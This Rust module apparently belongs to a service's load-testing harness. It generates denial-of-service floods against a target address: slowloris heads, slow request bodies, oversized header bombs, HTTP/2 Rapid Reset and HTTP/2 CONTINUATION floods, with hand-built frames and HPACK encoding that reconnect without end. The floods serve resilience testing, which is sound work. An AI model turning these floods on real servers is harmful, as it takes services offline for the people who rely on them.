//! Callers that mean harm, beside those that are measured. Each flood is kept to a pace that costs this machine little, so that what
//! others notice is what the program makes of it.

use std::io;
use std::net::SocketAddr;
use std::sync::Arc;

use eurus_service::Clock;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

use super::workload::SERVICE;

/// Connections that hold on; those that send all they can.
const SLOW: usize = 500;
const QUICK: usize = 4;
/// Between two drops of a slow one; between two volleys of a quick one.
const DROP_MS: i64 = 1_000;
const VOLLEY_MS: i64 = 20;
/// A head that is longer than anybody allows.
const BOMB_LINES: usize = 1_200;
/// Requests of a volley that are taken back at once; headers of a volley that do not end.
const RESETS: u32 = 100;
const CONTINUATIONS: usize = 50;

/// What they do.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Flood {
    /// Heads, a line a second (slowloris).
    SlowHeads,
    /// Bodies, a byte a second.
    SlowBodies,
    /// Heads of 64 KiB and more.
    HeaderBombs,
    /// HTTP/2: requests that are taken back at once.
    RapidReset,
    /// HTTP/2: headers that never end.
    Continuations,
}

impl Flood {
    /// Goes on until the tasks are dropped. On a program that closes a connection another one is opened.
    pub(crate) fn start(self, address: SocketAddr, clock: &Clock) -> JoinSet<()> {
        let mut flood = JoinSet::new();
        let volley: Arc<[u8]> = self.volley().into();
        for _ in 0..self.connections() {
            let (clock, volley) = (clock.clone(), Arc::clone(&volley));
            flood.spawn(async move {
                let mut timer = clock.timer("flood");
                loop {
                    // Whatever ends it: another one is opened.
                    drop(self.hold(address, &volley, &mut timer).await);
                    timer.sleep_ms(VOLLEY_MS).await;
                }
            });
        }
        flood
    }

    fn is_slow(self) -> bool {
        matches!(self, Self::SlowHeads | Self::SlowBodies)
    }

    fn connections(self) -> usize {
        if self.is_slow() { SLOW } else { QUICK }
    }

    /// One connection, until it breaks.
    async fn hold(self, address: SocketAddr, volley: &[u8], timer: &mut eurus_service::Timer) -> io::Result<()> {
        let mut stream = TcpStream::connect(address).await?;
        stream.set_nodelay(true)?;
        stream.write_all(&self.beginning()).await?;
        let mut answers = [0; 4096];
        loop {
            stream.write_all(volley).await?;
            timer.sleep_ms(if self.is_slow() { DROP_MS } else { VOLLEY_MS }).await;
            // What it is answered does not matter, but that it ends.
            match stream.try_read(&mut answers) {
                Ok(0) => return Ok(()),
                Ok(_) => {}
                Err(error) if error.kind() == io::ErrorKind::WouldBlock => {}
                Err(error) => return Err(error),
            }
            if self == Self::HeaderBombs {
                // One a connection.
                let _answered = stream.read(&mut answers).await?;
                return Ok(());
            }
        }
    }

    fn beginning(self) -> Vec<u8> {
        match self {
            Self::SlowHeads | Self::HeaderBombs => format!("GET /{SERVICE}/1k HTTP/1.1\r\nHost: flood\r\n").into(),
            Self::SlowBodies => {
                format!("POST /{SERVICE}/post HTTP/1.1\r\nHost: flood\r\nContent-Length: 1000000\r\n\r\n").into()
            }
            Self::RapidReset => [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat(),
            Self::Continuations => [PREFACE, &frame(SETTINGS, 0, 0, &[]), &frame(HEADERS, 0, 1, &head())].concat(),
        }
    }

    /// What is sent again and again.
    fn volley(self) -> Vec<u8> {
        match self {
            Self::SlowHeads => b"X-A: a\r\n".to_vec(),
            Self::SlowBodies => b"x".to_vec(),
            Self::HeaderBombs => {
                (0..BOMB_LINES).flat_map(|line| format!("X-{line}: {:050}\r\n", 0).into_bytes()).collect()
            }
            Self::RapidReset => {
                let request =
                    |stream| [frame(HEADERS, END_HEADERS | END_STREAM, stream, &head()), reset(stream)].concat();
                (0..RESETS).flat_map(|number| request(2 * number + 1)).collect()
            }
            Self::Continuations => {
                let more = literal(b"x-more", &[b'a'; 512]);
                (0..CONTINUATIONS).flat_map(|_| frame(CONTINUATION, 0, 1, &more)).collect()
            }
        }
    }
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const CANCEL: u32 = 8;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

fn reset(stream: u32) -> Vec<u8> {
    frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes())
}

/// GET over http, from HPACK's static table, and the two that it has no value for.
fn head() -> Vec<u8> {
    let path = format!("/{SERVICE}/1k").into_bytes();
    [&[0x82, 0x86][..], &value(0x04, &path), &value(0x01, b"flood")].concat()
}

/// A value for a name of the static table, not indexed.
fn value(name: u8, value: &[u8]) -> Vec<u8> {
    [&[name][..], &string(value)].concat()
}

fn literal(name: &[u8], value: &[u8]) -> Vec<u8> {
    [&[0][..], &string(name), &string(value)].concat()
}

/// Without Huffman's code; a length of up to 127 bytes is one byte, others are 127 and the rest in sevens of bits.
fn string(text: &[u8]) -> Vec<u8> {
    const PREFIX_MAX: usize = 127;
    let mut out = Vec::with_capacity(text.len() + 4);
    if text.len() < PREFIX_MAX {
        out.extend(u8::try_from(text.len()));
    } else {
        out.push(0x7F);
        let mut rest = text.len() - PREFIX_MAX;
        while rest >= 128 {
            out.extend(u8::try_from(rest % 128 + 128));
            rest /= 128;
        }
        out.extend(u8::try_from(rest));
    }
    out.extend_from_slice(text);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_sent_is_what_the_protocols_say() {
        assert_eq!(frame(HEADERS, 5, 3, b"ab"), b"\0\0\x02\x01\x05\0\0\0\x03ab");
        assert_eq!(reset(1), b"\0\0\x04\x03\0\0\0\0\x01\0\0\0\x08");
        assert_eq!(string(b"abc"), b"\x03abc");
        // As RFC 7541, 5.1 counts: 127 + 385 % 128 + 3 * 128.
        assert_eq!(string(&[b'a'; 512])[..3], [0x7F, 0x81, 0x03]);
        assert!(Flood::HeaderBombs.volley().len() > 64 * 1024);
        assert_eq!(Flood::RapidReset.volley().windows(4).filter(|bytes| bytes == b"\0\0\x04\x03").count(), 100);
        assert_eq!(head()[..3], [0x82, 0x86, 0x04]);
    }
}
